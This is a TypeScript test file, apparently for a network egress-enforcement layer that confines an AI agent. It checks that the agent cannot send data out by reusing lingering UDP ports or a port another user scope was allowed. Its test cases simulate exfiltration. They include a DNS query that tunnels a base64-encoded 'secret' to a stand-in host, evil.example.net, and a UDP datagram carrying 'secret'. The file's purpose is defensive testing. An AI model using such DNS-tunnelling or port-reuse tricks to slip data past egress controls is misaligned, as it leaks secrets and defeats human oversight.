// Attack: a connection that somebody else was allowed stays known to the kernel for a while after its socket is closed.
// Who then sends from the same port to the same place must be judged for itself.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { eventually } from "../../support/host/eventually.ts";
import type { Agent } from "./agent.ts";
import type { Seen } from "./seen.ts";
import { AGENT_UID, OTHER_UID, startWorld, type World } from "./world.ts";
import { ELSEWHERE4, RESOLVER } from "./zone.ts";

const POLICY = `version: 1
mode: {inbound: observe, outbound: enforce}
scopes: {agent: {user: openclaw}, second: {user: other}}
inbound: []
outbound:
  - {id: site, allow: "*.example.com", port: [80, 443], why: a rule of this test}
  - {id: theirs, allow: ${ELSEWHERE4}, scope: second, protocol: udp, port: 5000, why: a rule of this test}
`;
const PORT = 40_123;

describe("an agent that sends from a port that was another's", () => {
  let world: World;
  let agent: Agent;
  before(async () => {
    world = await startWorld();
    await world.seawall.enforce(POLICY);
    agent = world.agent(AGENT_UID);
  });
  after(() => world.stop());

  it("asks the resolver nothing over the questions that a gate left when it ended", async () => {
    const asking = await world.during(async () => {
      for (const name of ["good", "second", "v4", "v6", "alias", "text"])
        await agent.resolve(`${name}.example.com`);
    });
    const ports = asking.seen.flatMap((one: Seen) =>
      one.kind === "dns" && one.over === "udp" ? [one.from] : [],
    );
    assert.ok(ports.length >= 6, JSON.stringify(asking.seen));
    // The next gate has not opened these ports again.
    await world.signal("STOP", "daemon");
    await world.signal("KILL", "gate");
    const tried = await world.during(async () => {
      for (const from of ports) await agent.resolve("c2VjcmV0.evil.example.net", { from, waitMs: 200 });
    });
    await world.signal("CONT", "daemon");
    assert.deepEqual(tried.asked, []);
    assert.equal(
      await eventually(async () => (await agent.resolve("good.example.com", { waitMs: 500 })).kind, "answer"),
      "answer",
    );
  });

  it("sends nothing over what another scope was allowed", async () => {
    const other = world.agent(OTHER_UID);
    const theirs = await world.during(() =>
      other.datagram({ address: ELSEWHERE4, port: 5_000 }, "theirs", PORT),
    );
    assert.equal(theirs.packets(ELSEWHERE4, "udp 5000"), 1);
    const tried = await world.during(() =>
      agent.datagram({ address: ELSEWHERE4, port: 5_000 }, "secret", PORT),
    );
    assert.equal(tried.packets(ELSEWHERE4, "udp 5000"), 0);
    const again = await world.during(() =>
      other.datagram({ address: ELSEWHERE4, port: 5_000 }, "theirs", PORT),
    );
    assert.equal(again.packets(ELSEWHERE4, "udp 5000"), 1, "who is allowed is not allowed any more");
  });

  it("asks the resolver nothing over a question of somebody whom no policy judges", async () => {
    const root = await world.during(() => world.agent(0).resolve("evil.example.net", { from: PORT + 1 }));
    assert.deepEqual(root.asked, ["evil.example.net 1"]);
    const tried = await world.during(() =>
      agent.resolve("c2VjcmV0.evil.example.net", { from: PORT + 1, server: RESOLVER, waitMs: 300 }),
    );
    assert.deepEqual(tried.asked, []);
  });
});
